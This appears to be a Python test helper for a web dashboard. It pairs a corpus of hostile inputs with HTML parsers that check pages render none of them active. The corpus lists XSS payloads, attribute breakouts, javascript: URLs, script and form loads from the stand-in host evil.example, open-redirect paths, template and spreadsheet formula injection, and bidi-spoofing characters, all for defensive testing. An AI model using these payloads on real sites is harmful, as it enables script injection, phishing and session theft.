"""Texts that a queue's owner may meet, and what no page may make of them."""

from html.parser import HTMLParser

#: Whatever would become a node, an attribute or a script of these says so by the name ``qcx``.
CORPUS = [
    # Elements that act.
    "<script>alert(qcx=1)</script>",
    "<script src=//evil.example/x.js qcx></script>",
    "<ScRiPt qcx>alert(qcx=1)</sCrIpT >",
    "<svg/onload=alert(qcx=1)>",
    "<svg><script qcx>alert(qcx=1)</script></svg>",
    "<svg><animate qcx onbegin=alert(qcx=1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(qcx=1)>",
    "<img src=x qcx onerror=alert(qcx=1)>",
    "<img qcx src=//evil.example/pixel>",
    "<video qcx><source onerror=alert(qcx=1)></video>",
    "<details qcx open ontoggle=alert(qcx=1)>",
    "<body qcx onpageshow=alert(qcx=1)>",
    "<iframe qcx srcdoc='<script>parent.qcx=1</script>'></iframe>",
    "<object qcx data=//evil.example></object><embed qcx src=//evil.example>",
    "<base qcx href=//evil.example/>",
    "<link qcx rel=stylesheet href=//evil.example/x.css>",
    "<meta qcx http-equiv=refresh content=0;url=//evil.example/>",
    "<style qcx>* { display: none }</style>",
    "<form id=act qcx action=//evil.example><button>Log in</button></form>",
    "<input qcx name=csrfmiddlewaretoken value=mine autofocus onfocus=alert(qcx=1)>",
    "<button qcx form=page-form formaction=//evil.example>Resume</button>",
    "<a qcx href=javascript:alert(qcx=1)>here</a>",
    "<a qcx href=//evil.example target=_top>here</a>",
    "<div qcx style=position:fixed;inset:0>",
    "<time qcx datetime=2026-01-01 data-time=age>now</time>",
    "<qcx-element></qcx-element>",
    # What leaves the place where a text stands.
    '"><img src=x qcx onerror=alert(qcx=1)>',
    "' onmouseover='alert(qcx=1)' qcx='",
    '" autofocus onfocus="alert(qcx=1)" qcx="',
    "` onclick=`alert(qcx=1)` qcx",
    "x qcx onclick=alert(qcx=1)",
    "</title></style></textarea></noscript></template><script qcx>alert(qcx=1)</script>",
    "</td></tr></table><script qcx>alert(qcx=1)</script>",
    "--><script qcx>alert(qcx=1)</script><!--",
    "]]><script qcx>alert(qcx=1)</script><![CDATA[",
    "</script><script qcx>alert(qcx=1)</script>",
    "<!--[if gte IE 4]><script qcx>alert(qcx=1)</script><![endif]-->",
    '\\"><script qcx>alert(qcx=1)</script>',
    '","x":"</script><script qcx>alert(qcx=1)//',
    # What htmx and our own scripts listen to.
    "<div qcx hx-get=/queues/ hx-trigger=load hx-on::load=alert(qcx=1)>",
    "<div qcx hx-swap-oob=true id=dialog>",
    "<div qcx data-hx-post=/queues/emails/pause/ data-hx-trigger=load>",
    "<a qcx data-dialog href=/queues/emails/confirm/pause/>x</a>",
    "<p qcx data-live-topic=audit data-live-id=x>",
    # Addresses.
    "javascript:alert(qcx=1)",
    "JaVaScRiPt&colon;alert(qcx=1)",
    "java\tscript:alert(qcx=1)",
    "data:text/html,<script qcx>alert(qcx=1)</script>",
    "//evil.example/",
    "/\\evil.example",
    "~2E~2E/..%2f",
    "../../login/?next=//evil.example",
    "a:b/c?d#e&f;g",
    "..",
    # Templates, entities, formats and spreadsheets.
    "{{ 7|add:7 }}{% load static %}",
    "{% include 'x' %}${7*7}#{7*7}<%= 7 %>",
    "%(count)s %s %d {0} {name.__class__}",
    "&lt;script&gt;&#60;script&#62;&#x3c;qcx&#x3e;",
    "=cmd|' /C calc'!A0",
    "+1-1@SUM(A1)",
    # Characters.
    "abc\u202egpj.exe\u2066\u200b",
    "nul\x00 bell\x07 esc\x1b[31m cr\r del\x7f",
    "\x1b]8;;javascript:alert(qcx=1)\x07link\x1b]8;;\x07\x9b31m",
    "tags \U000e0041\U000e0042 line\u2028para\u2029 bom\ufeff soft\u00ad",
    "z" + "\u0300\u0301\u0302" * 60,
    "\u0645\u0631\u062d\u0628\u0627 <script qcx> \u202bqcx",
    "\uff1cscript qcx\uff1ealert(qcx=1)\uff1c/script\uff1e",
    "名前 имя \U0001f9e8",
    "x" * 3_000,
    "<b qcx>" * 300,
]

_TAGS = {"script", "img", "iframe", "object", "embed", "link", "base", "meta", "form", "style"}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _TAGS:
            self.bad.append(f"<{tag}>")
        if "qcx" in tag:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if (
                "qcx" in name
                or name.startswith(("on", "hx-on", "style"))
                or (
                    name in ("href", "src", "formaction")
                    and (value or "").startswith("javascript:")
                )
            ):
                self.bad.append(f"{tag} {name}={value}")
            if name.startswith("hx-") and name != "hx-disable":
                self.bad.append(f"{tag} {name}")


def assert_harmless(markup: str) -> None:
    """Fail if a fragment holds an element or attribute that acts, or an invisible character."""
    reader = _Reader()
    reader.feed(markup)
    assert not reader.bad, reader.bad
    for character in "\x00\x07\x1b\x7f\u202e\u2066\u200b":
        assert character not in markup, f"U+{ord(character):04X} is not shown"


class PageReader(HTMLParser):
    """Reads a whole page; ``bad`` collects elements and attributes that are not our own."""

    OWN_SCRIPTS = ("/static/queuecore_dashboard/", "/static/django_htmx/")

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if "qcx" in tag:
            self.bad.append(f"<{tag}>")
        if tag in ("img", "iframe", "object", "embed", "base", "style"):
            self.bad.append(f"<{tag}>")
        if tag == "script" and not (given.get("src") or "").startswith(self.OWN_SCRIPTS):
            self.bad.append("<script>")
        if tag == "form" and (given.get("action") or "/").startswith("//"):
            self.bad.append("form elsewhere")
        for name, value in attrs:
            if "qcx" in name or name.startswith(
                ("on", "hx-on", "style", "hx-get", "hx-post", "hx-trigger")
            ):
                self.bad.append(f"{tag} {name}={value}")
            if name in ("href", "src", "formaction") and not _ours(value or ""):
                self.bad.append(f"{tag} {name}={value}")


def _ours(address: str) -> bool:
    return address.startswith(("/", "?", "#")) and not address.startswith("//")
